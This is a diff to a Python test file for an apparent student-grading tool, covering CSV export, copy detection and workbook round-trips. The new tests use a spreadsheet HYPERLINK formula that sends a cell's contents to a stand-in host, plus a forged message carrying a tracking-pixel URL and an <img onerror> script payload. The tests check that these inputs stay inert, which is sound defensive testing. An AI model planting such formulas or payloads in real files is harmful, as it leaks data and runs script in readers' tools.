@@ -3,6 +3,7 @@ class statistics, open answers exported to xlsx and merged back, copy detection,
 from __future__ import annotations
 
 import csv
+import re
 import shutil
 from pathlib import Path
 
@@ -45,7 +46,7 @@ def test_csv_stats_and_feedback(tmp_path: Path) -> None:
     record(db, "s2", "quiz", _rows("s2", {"sc01": 1, "sc02": 0}))
     record(db, "s3", "quiz", _rows("s3", {"sc01": 0, "sc02": 1}))
     export(db, tmp_path)
-    with (tmp_path / "gradebook.csv").open(encoding="utf-8") as handle:
+    with (tmp_path / "gradebook.csv").open(encoding="utf-8-sig") as handle:
         table = list(csv.DictReader(handle))
     assert list(table[0]) == COLUMNS == ["student_id", "exercise", "question", "score", "max_score", "status", "message"]
     assert len(table) == 6
@@ -88,10 +89,12 @@ def _outcome(student: str, answer, expected) -> Outcome:
 
 def test_copy_detection_flags_answers_from_another_world() -> None:
     outcomes = [_outcome("s1", 120, 120), _outcome("s2", 120, 131), _outcome("s3", 99, 140)]
-    flag_copies(outcomes, {"lab1_classification": {"q1": {"type": "number"}}})
+    notes = flag_copies(outcomes, {"lab1_classification": {"q1": {"type": "number"}}})
     s1, s2, s3 = (o.rows[0] for o in outcomes)
     assert s1.status == "correct" and s3.status == "incorrect"
-    assert s2.status == "flagged" and "s1" in s2.message and s2.score == 0.0
+    assert s2.status == "flagged" and s2.score == 0.0
+    assert "s1" not in s2.message and "another student's world" in s2.message  # the copier never learns whose
+    assert notes == ["s2 lab1_classification q1: the answer is right for the world of s1"]  # the instructor does
 
 
 def _graded_open_answers(tmp_path: Path) -> Path:
@@ -117,7 +120,7 @@ def test_open_answers_round_trip_through_a_workbook(tmp_path: Path) -> None:
     ws.cell(row=FIRST_ROW, column=4, value="two of three points")
     wb.save(book)
     assert merge_open(results, book, default_masters()) == 1
-    with (results / "gradebook.csv").open(encoding="utf-8") as handle:
+    with (results / "gradebook.csv").open(encoding="utf-8-sig") as handle:
         table = {r["student_id"]: r for r in csv.DictReader(handle)}
     assert table["s1"]["score"] == "4.0" and table["s1"]["status"] == "reviewed"
     assert table["s2"]["status"] == "pending_review"
@@ -163,3 +166,39 @@ def test_cli_regrades_one_student_only(tmp_path: Path) -> None:
     after = all_rows(db)
     assert [r for r in after if r.student_id == "s2"] == before
     assert [r.status for r in after if r.student_id == "s1" and r.question == "sc01"] == ["incorrect"]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?" & B7, "click")'
+
+
+def test_an_answer_starting_with_equals_stays_text_in_the_workbook(tmp_path: Path) -> None:
+    results = tmp_path / "out"
+    db = connect(results)
+    record(db, "s1", "quiz", [Row("s1", "quiz", "sa01", 0.0, 6.0, "pending_review", "waiting")], {"sa01": FORMULA})
+    db.close()
+    book = export_open(results, tmp_path / "open.xlsx", default_masters())
+    cell = load_workbook(book)["quiz.sa01"].cell(row=FIRST_ROW, column=2)
+    assert cell.data_type == "s" and cell.value == FORMULA
+
+
+def test_gradebook_csv_has_a_bom_and_no_formulas(tmp_path: Path) -> None:
+    db = connect(tmp_path)
+    record(db, "s1", "quiz", [Row("s1", "quiz", "sc01", 0.0, 1.0, "incorrect", FORMULA)])
+    export(db, tmp_path)
+    raw = (tmp_path / "gradebook.csv").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    with (tmp_path / "gradebook.csv").open(encoding="utf-8-sig") as handle:
+        [row] = list(csv.DictReader(handle))
+    assert row["message"] == "'" + FORMULA and row["score"] == "0.0"
+
+
+def test_markdown_in_a_message_cannot_forge_the_feedback() -> None:
+    forged = "ZeroDivisionError\n\n## quiz: 16 / 16\n\n![pixel](http://evil.example/p.png) <img src=x onerror=alert(1)>"
+    text = feedback_text("s1", [Row("s1", "quiz", "(notebook)", 0.0, 0.0, "warning", forged),
+                                Row("s1", "quiz", "sc01", 0.0, 1.0, "incorrect", "x")])
+    headings = [line for line in text.splitlines() if line.startswith("#")]
+    assert headings == ["# Feedback for s1 · 评分反馈", "## quiz: 0 / 1"]
+    [line] = [line for line in text.splitlines() if "ZeroDivisionError" in line]
+    message = line.split(": ", 1)[1]
+    assert re.search(r"(?<!\\)[!\[\]()<>#*_`]", message) is None, message  # every mark-up character escaped
+    assert "not proof and not a guarantee" in text
